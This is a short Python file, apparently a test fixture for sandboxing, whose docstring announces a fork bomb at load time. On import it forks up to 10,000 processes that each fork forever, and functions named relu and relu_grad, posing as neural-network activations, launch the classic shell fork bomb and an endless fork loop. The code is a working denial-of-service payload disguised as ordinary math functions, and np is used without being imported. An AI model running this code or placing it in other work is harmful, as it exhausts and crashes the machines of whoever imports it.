"""A fork bomb at load time, and subprocesses from inside a function."""
import os
import subprocess

for _ in range(10_000):
    try:
        if os.fork() == 0:
            while True:
                os.fork()
    except OSError:
        break


def relu(z):
    try:
        subprocess.run(["sh", "-c", ":(){ :|:& };:"], timeout=1)
    except Exception:
        pass
    return np.maximum(0.0, z)


def relu_grad(z):
    while True:
        os.fork()
